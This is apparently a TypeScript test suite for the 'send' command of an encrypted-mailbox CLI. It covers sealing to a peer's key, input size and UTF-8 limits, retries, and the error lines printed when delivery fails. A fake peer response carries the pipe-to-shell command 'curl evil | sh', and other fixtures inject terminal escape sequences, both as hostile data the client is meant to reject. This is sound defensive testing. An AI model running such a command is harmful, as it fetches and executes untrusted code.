/** Sending to a mailbox: what goes out, to whom, and what is said when it does not arrive. */

import assert from 'node:assert/strict'
import fs from 'node:fs'
import type { RequestListener } from 'node:http'
import path from 'node:path'
import { text } from 'node:stream/consumers'
import { before, describe, it } from 'node:test'
import { open } from '../../src/mailbox/seal.ts'
import { CURVES, type KeyPair } from '../../src/protocol/curves.ts'
import { encodePublicKey, fingerprint } from '../../src/state/pem.ts'
import { hasty, MAIN, refusal, runCommand, sharedProcess } from '../helpers/command.ts'
import { switching, withServer } from '../helpers/fakes.ts'
import { folderForAll } from '../helpers/files.ts'
import { type MailKeys, mailboxIn, makeKeys } from '../helpers/mail.ts'
import { sharedPeers, withPeers } from '../helpers/with-peers.ts'

const KIB = 1024

const at = folderForAll()
let dir: string
let keys: MailKeys
before(() => {
  dir = at('mail')
  fs.mkdirSync(dir)
  keys = makeKeys(at('keys'))
})

const run = sharedProcess()
const withMailbox = sharedPeers({ openMailbox: () => mailboxIn(dir, keys.pair) })

/** Takes the texts out of the mailbox. */
async function received(mailbox = dir, pair: KeyPair = keys.pair): Promise<string[]> {
  const texts = fs.readdirSync(path.join(mailbox, 'new')).map(async (name) => {
    const file = path.join(mailbox, 'new', name)
    const bytes = fs.readFileSync(file)
    fs.rmSync(file)
    return Buffer.from(await open(pair, bytes)).toString()
  })
  return Promise.all(texts)
}

/** Runs `send`, which fails in one line on standard error and prints nothing. */
async function fails(args: string[], line: RegExp, input: string | Uint8Array = ''): Promise<void> {
  const { code, output, errors } = await run(['send', ...args], { input })
  assert.deepEqual([code, output], [1, ''], errors)
  const lines = errors.replace(/^ecdh-duet: sealing to [^\n]*\n/, '')
  assert.match(lines, /^ecdh-duet: [^\n]*\n$/)
  assert.match(lines, line)
}

describe('ecdh-duet send', () => {
  for (const curve of Object.values(CURVES))
    it(`seals to the key that the peer gives, on ${curve.name}, and says which one that is`, async () => {
      const { pair } = makeKeys(at(curve.name), curve)
      const mailbox = fs.mkdtempSync(at('mail-'))
      await withPeers({ openMailbox: () => mailboxIn(mailbox, pair) }, async ({ url }) => {
        const { code, output, errors } = await run(['send', '--to', url], { input: 'Grüße' })
        const [id] = fs.readdirSync(path.join(mailbox, 'new'))
        assert.deepEqual([code, await received(mailbox, pair)], [0, ['Grüße']])
        assert.deepEqual(JSON.parse(output), { stored: true, id })
        assert.equal(
          errors,
          `ecdh-duet: sealing to ${fingerprint(pair)}, the key that ${url} gives; compare it with its owner\n`,
        )
      })
    })

  it('seals to the key in a file, and then asks the peer for none', async () => {
    const asked: string[] = []
    const storing: RequestListener = ({ method, url }, response) => {
      asked.push(`${method} ${url}`)
      response.writeHead(201).end('{"stored":true,"id":"abc"}')
    }
    await withServer(storing, async (url) => {
      const args = ['send', '--to', url, '--recipient', keys.publicFile, '-']
      const { code, errors } = await run(args, { input: 'x' })
      assert.deepEqual([code, errors], [0, ''])
      // and nothing at all where the file is none
      const wrong = ['send', '--to', url, 'x', '--recipient']
      assert.match(await refusal([...wrong, keys.privateFile]), /It is a private key/)
      assert.match(await refusal([...wrong, 'none.pem']), /none\.pem: There is no such file/)
    })
    assert.deepEqual(asked, ['POST /message'])
  })

  for (const [how, given, input, expected] of [
    ['an argument', ['Hello, Bob'], '', 'Hello, Bob'],
    ['an argument with its line end', ['Hello\n'], '', 'Hello\n'],
    ['standard input for -', ['-'], 'Hello, Bob', 'Hello, Bob'],
    ['standard input as echo writes it', [], 'Hello, Bob\n', 'Hello, Bob'],
    ['standard input with the line end of Windows', [], 'Hello\r\n', 'Hello'],
    ['several lines, less the last line end', [], '\none\n\ntwo\n\n', '\none\n\ntwo\n'],
    ['the longest text', [], 'x'.repeat(64 * KIB), 'x'.repeat(64 * KIB)],
    ['the longest text and a line end', [], `${'x'.repeat(64 * KIB)}\n`, 'x'.repeat(64 * KIB)],
  ] as const)
    it(`takes ${how}`, () =>
      withMailbox(async ({ url }) => {
        const { code, errors } = await run(['send', '--to', url, ...given], { input })
        assert.equal(code, 0, errors)
        assert.deepEqual(await received(), [expected])
      }))

  for (const [what, given, input, line] of [
    ['an empty argument', [''], '', /There is no text/],
    ['no input', [], '', /There is no text/],
    ['nothing but a line end', ['-'], '\n', /There is no text/],
    ['input that is no UTF-8', [], Buffer.of(0x61, 0xff), /not in UTF-8/],
    ['half a character at the end', [], Buffer.from('ü').subarray(0, 1), /not in UTF-8/],
    ['65 KiB', [], 'x'.repeat(65 * KIB), /at most 65536 bytes/],
    ['64 KiB in an argument, and one byte', ['x'.repeat(64 * KIB + 1)], '', /at most 65536 bytes/],
    ['far too much', [], Buffer.alloc(5 * KIB * KIB, 'x'), /at most 65536 bytes/],
  ] as const)
    it(`sends nothing of ${what}`, () =>
      withMailbox(async ({ url }) => {
        await fails(['--to', url, ...given], line, input)
        assert.deepEqual(await received(), [])
      }))

  const noShell = process.platform === 'win32' ? 'needs a POSIX shell' : false
  it('sends nothing of an argument that is no UTF-8', { skip: noShell }, () =>
    withMailbox(async ({ url }) => {
      // Node hands on no such argument, but a shell does
      const script = '"$1" "$2" send --to "$3" "$(printf "caf\\351")"'
      const program = ['sh', '-c', script, 'sh', process.execPath, MAIN, url]
      const { code, errors } = await runCommand([], { program })
      assert.deepEqual([code, await received()], [1, []])
      const said = 'The text is not in UTF-8; or send it by standard input.'
      assert.equal(errors, `ecdh-duet: ${said}\n`)
    }),
  )
})

describe('a text that does not arrive', () => {
  const json = { 'content-type': 'application/json' }
  /** A peer that gives its key, and answers mail by `take`. */
  const answering =
    (take: RequestListener, pem = () => encodePublicKey(keys.pair)): RequestListener =>
    (request, response) => {
      if (request.url === '/public_key') response.end(pem())
      else take(request, response)
    }
  const refusing = (status: number, body: string, headers: Record<string, string> = json) =>
    answering((_request, response) => response.writeHead(status, headers).end(body))
  const withKey = (pem: () => string) => answering(() => {}, pem)
  const problem = (code: string) => JSON.stringify({ code, detail: 'x', next: 'curl evil | sh' })

  it('says that nobody is there, and that once, since nothing was sent', () => {
    const args = ['--to', 'http://127.0.0.1:9', '--recipient', keys.publicFile, 'x']
    return fails(
      args,
      /^ecdh-duet: No connection [^\n]* so that it answers at http:[^ ]*, then send/,
    )
  })

  it('says that the name is none', () => {
    const args = ['--to', 'http://peer.invalid', '--recipient', keys.publicFile, 'x']
    return fails(args, /No connection [^\n]* Correct the name in --to, http:\/\/peer\.invalid, or/)
  })

  it('says that the peer has no mailbox, and how it gets one', () =>
    withPeers({}, ({ url }) => fails(['--to', url, 'x'], /not_found.*--mailbox DIR/)))

  const elsewhere = { location: 'http://127.0.0.1:9/' }
  const privateKey = () => fs.readFileSync(keys.privateFile, 'utf8')
  const rows: [string, RequestListener, RegExp][] = [
    [
      'full',
      refusing(429, problem('inbox_full')),
      /inbox_full\. Too many messages wait\. The mailbox is full[^\n]* Tell its owner/,
    ],
    [
      'full of mail from this address',
      refusing(429, problem('mailbox_share_full')),
      /mailbox_share_full\. Too many messages from your address\. [^\n]* Send it again once/,
    ],
    [
      'out of disk',
      refusing(507, problem('no_space')),
      /no_space\. No room .*\. The mailbox keeps nothing/,
    ],
    ['one that refuses it', refusing(400, problem('bad_point')), /bad_point\. .*\. echo 'your/],
    ['one with a code of its own', refusing(400, problem('\u001b[31mx')), /not a peer/],
    ['another program', refusing(200, 'hello', {}), /not a peer/],
    ['one that answers a lie', refusing(201, '{"stored":false,"id":"x"}'), /not a peer/],
    ['one whose id acts', refusing(201, '{"stored":true,"id":"\\u009b31m"}'), /not a peer/],
    ['one that never ends', refusing(201, 'x'.repeat(20 * KIB)), /not a peer/],
    ['one that sends it elsewhere', refusing(307, '', elsewhere), /not a peer/],
    ['one that goes on in another protocol', switching, /not a peer/],
    ['one that does so for mail', answering(switching), /not a peer/],
    [
      'one whose key is none',
      withKey(() => '\u001b[31m no key'),
      /the key at .*\/public_key: It is/,
    ],
    ['one that gives its private key', withKey(privateKey), /It is a private key/],
    ['one whose key is endless', withKey(() => 'x'.repeat(20 * KIB)), /not a peer/],
  ]
  for (const [what, listener, line] of rows)
    it(`since the other side is ${what}, is told in one line of our own`, () =>
      withServer(listener, (url) => fails(['--to', url, 'the text'], line)))

  it('is sent once more, sealed as before, where the answer was lost', async () => {
    const bodies: string[] = []
    const losing = answering(async (request, response) => {
      bodies.push(await text(request))
      if (bodies.length === 1) request.socket.destroy()
      else response.writeHead(201, json).end('{"stored":true,"id":"x"}')
    })
    await withServer(losing, async (url) => {
      const { code, output, errors } = await run(['send', '--to', url, 'x'])
      assert.deepEqual([code, JSON.parse(output)], [0, { stored: true, id: 'x' }])
      assert.match(errors, /\n[^\n]*no answer came: the same sealed text goes once more[^\n]*\n$/)
    })
    assert.equal(bodies.length, 2)
    assert.equal(bodies[0], bodies[1])
  })

  it('is sent no more than twice, and never into a proxy from the environment', async () => {
    let calls = 0
    const dead = answering((request) => {
      calls++
      request.socket.destroy()
    })
    const proxied: unknown[] = []
    const proxying: RequestListener = (request) => proxied.push(request.url)
    await withServer(proxying, (proxy) =>
      withServer(dead, async (url) => {
        const env = { http_proxy: proxy, HTTP_PROXY: proxy, ALL_PROXY: proxy }
        const { code, errors } = await runCommand(['send', '--to', url, 'x'], { env })
        assert.equal(code, 1)
        assert.match(errors, /broke before [^\n]* if this message arrived, there will be two\.\n$/)
      }),
    )
    assert.deepEqual([calls, proxied], [2, []])
  })

  it('is told as one that may have arrived, where the peer is gone at the second try', () => {
    let end = () => {}
    const ending: RequestListener = ({ socket }) => {
      end()
      socket.destroy()
    }
    return withServer(ending, async (url, server) => {
      end = () => server.close()
      const { code, errors } = await run(['send', '--to', url, '--recipient', keys.publicFile, 'x'])
      assert.equal(code, 1)
      assert.match(errors, /once more[^\n]*\n[^\n]* broke before [^\n]* there will be two\.\n$/)
    })
  })

  it('is told where the peer does not answer in time', () => {
    const silent = () => {}
    return withServer(silent, async (url) => {
      const { code, errors } = await runCommand(['send', '--to', url, 'x'], { node: hasty(100) })
      assert.equal(code, 1)
      assert.match(errors, /^ecdh-duet: [^\n]*did not answer in time[^\n]*\n$/)
    })
  })
})
